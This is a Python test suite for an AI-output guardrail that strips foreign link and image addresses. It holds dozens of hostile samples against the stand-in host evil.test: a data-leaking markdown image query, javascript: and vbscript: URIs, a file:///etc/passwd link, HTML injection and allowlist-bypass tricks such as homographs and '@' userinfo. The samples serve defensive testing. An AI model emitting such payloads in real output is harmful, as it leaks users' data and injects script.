"""Links and images: allowed hosts pass byte for byte, all others lose their address and keep their text."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from guardrail_engine import Action, Direction, Engine, Screening
from guardrail_engine.detectors.links import IMAGE, LINK, is_allowed

if TYPE_CHECKING:
    from collections.abc import Callable

HOSTS = frozenset({"docs.example.com"})

NEUTRALISED = {
    # Markdown
    "![chart](https://evil.test/c.png)": f"chart {IMAGE}",
    "![](https://evil.test/?q=secret)": IMAGE,
    "![a](<https://evil.test/a b>)": f"a {IMAGE}",
    '![a](https://evil.test/c.png "title")': f"a {IMAGE}",
    "[here](https://evil.test)": f"here {LINK}",
    "[here](  https://evil.test  )": f"here {LINK}",
    "[h](https://evil.test/a_(b))": f"h {LINK}",
    "[**bold**](http://evil.test)": f"**bold** {LINK}",
    "[h](//evil.test/x)": f"h {LINK}",
    "[h](\\\\evil.test)": f"h {LINK}",
    "[h](/\\evil.test)": f"h {LINK}",
    "[h](https&#58;//evil.test)": f"h {LINK}",
    "[h](javascript:alert(1))": f"h {LINK}",
    "[h](JaVaScRiPt:alert(1))": f"h {LINK}",
    "[h](vbscript:x)": f"h {LINK}",
    "[h](file:///etc/passwd)": f"h {LINK}",
    "![d](data:image/svg+xml;base64,PHN2Zz4=)": f"d {IMAGE}",
    "[h](https://docs.example.com@evil.test/)": f"h {LINK}",
    "[h](https://docs.example.com.evil.test/)": f"h {LINK}",
    "[h](https://evildocs.example.com/)": f"h {LINK}",
    "[h](https://docs.example.com:8443/)": f"h {LINK}",
    "[h](https://docs.example.com\\@evil.test/)": f"h {LINK}",
    "[h](https:/evil.test)": f"h {LINK}",
    "[h](https:evil.test)": f"h {LINK}",
    "[h](https://еvil.test)": f"h {LINK}",
    "[h](ftp://evil.test/x)": f"h {LINK}",
    "[![in](https://evil.test/i)](https://evil.test/o)": f"in {IMAGE} {LINK}",
    "[ref]: https://evil.test/x": f"[ref]: {LINK}",
    "> [ref]: <https://evil.test/x> 'title'": f"> [ref]: {LINK} 'title'",
    "[ref]:\n  //evil.test/x": f"[ref]:\n  {LINK}",
    "<https://evil.test/x>": LINK,
    "<ftp://evil.test>": LINK,
    "see https://evil.test/a?b=c#d now": f"see {LINK} now",
    "see https://evil.test/a, or www.evil.test.": f"see {LINK}, or {LINK}.",
    "(HTTPS://EVIL.TEST/a)": f"({LINK})",
    "**http://evil.test/**": f"**{LINK}**",
    "https:\\\\evil.test/a": LINK,
    # HTML
    '<img src="https://evil.test/x.png" alt="a chart">': f"a chart {IMAGE}",
    "<img src='//evil.test/x'>": IMAGE,
    "<img src=https://evil.test/x>": IMAGE,
    "<IMG\nSRC=https://evil.test/x>": IMAGE,
    "<img/src=https://evil.test/x>": IMAGE,
    '<img srcset="/a.png 1x, https://evil.test/b.png 2x">': IMAGE,
    '<img src="https://evil.test/x': IMAGE,
    '<a href="https://evil.test">text</a>': f"{LINK}text</a>",
    '<a href="&#106;avascript:alert(1)">text</a>': f"{LINK}text</a>",
    "<a href=javascript:alert(1)>text</a>": f"{LINK}text</a>",
    '<div style="background:url(//evil.test/x)">text</div>': f"{LINK}text</div>",
    '<meta http-equiv=refresh content="0;url=https://evil.test">': LINK,
    '<form action="https://evil.test"><input></form>': f"{LINK}<input></form>",
    '<iframe src="https://evil.test"></iframe>': f"{LINK}</iframe>",
    '<svg><image xlink:href="https://evil.test/x"/></svg>': f"<svg>{IMAGE}</svg>",
    '<video poster="https://evil.test/x"></video>': f"{IMAGE}</video>",
}

PASSED = [
    "![chart](https://docs.example.com/c.png)",
    "[guide](https://docs.example.com/a?b=c#d)",
    "[guide](http://docs.example.com)",
    "[guide](https://DOCS.example.com:443/)",
    "[sub](https://v2.docs.example.com/)",
    "[rel](/docs/page) and [rel2](page.html#x) and [rel3](#top) and [rel4](?q=1)",
    "[ref]: https://docs.example.com/x",
    "<https://docs.example.com/x>",
    "see https://docs.example.com/a, then www.docs.example.com.",
    '<img src="/logo.png" alt="logo"><a href="https://docs.example.com">x</a>',
    '<p style="color: red; margin: 0 auto">text</p>',
    "[ ] a task, [x] a done one, a[0](1), f(x)[i]",
    "if a < b and c > d: print('<a>')",
    "template<typename T> std::vector<int> v;",
    "The scheme https:// comes first; javascript: is another.",
    "a::b c:\\windows //comment.here",
    "1. one\n2. two\n\n| a | b |\n|---|---|\n",
    "`x = {'a': [1, 2]}`",
]


@pytest.mark.parametrize(("text", "expected"), NEUTRALISED.items())
def test_a_foreign_link_loses_its_address_and_keeps_its_text(
    text: str, expected: str, answer_of: Callable[[str], Screening]
) -> None:
    screened = answer_of(text)
    assert (screened.action, screened.text) == (Action.ALLOW, expected)
    assert "LLM05" in screened.risks


@pytest.mark.parametrize("text", PASSED)
def test_what_leads_nowhere_foreign_passes_unchanged(
    text: str, answer_of: Callable[[str], Screening]
) -> None:
    screened = answer_of(text)
    assert (screened.action, screened.text, dict(screened.redactions)) == (Action.ALLOW, text, {})


@pytest.mark.parametrize("text", [text for text in NEUTRALISED if "@" not in text])
def test_a_user_may_send_any_link(text: str, engine: Engine) -> None:
    assert engine.screen(text, direction=Direction.REQUEST).text == text


def test_links_and_images_are_counted_apart(answer_of: Callable[[str], Screening]) -> None:
    screened = answer_of("![a](https://evil.test/1) [b](https://evil.test/2) https://evil.test/3")
    assert dict(screened.redactions) == {"IMAGE": 1, "LINK": 2}


def test_without_allowed_hosts_every_absolute_link_goes() -> None:
    screened = Engine().screen("[guide](https://docs.example.com/)", direction=Direction.RESPONSE)
    assert screened.text == f"guide {LINK}"


def test_a_link_that_only_appears_after_a_removal_goes_too(answer_of: Callable[[str], Screening]) -> None:
    screened = answer_of("ht\u200btps://evil.test/x and [a](u\u200b\u2060) and h\x00ttps://evil.test")
    assert "evil" not in screened.text


@pytest.mark.parametrize(
    ("target", "allowed"),
    [
        ("", True),
        ("page", True),
        ("./a/b", True),
        ("https://docs.example.com", True),
        ("https://docs.example.com.", False),
        ("https://example.com", False),
        ("https://docs.example.com%2eevil.test", False),
        ("https://docs.example.com\t.evil.test", False),
        ("///evil.test", False),
        ("\t//evil.test", False),
        ("mailto:a@b.io", False),
        ("a:b", False),
    ],
)
def test_is_allowed_takes_only_what_is_plainly_relative_or_on_the_list(target: str, *, allowed: bool) -> None:
    assert is_allowed(target, HOSTS) is allowed
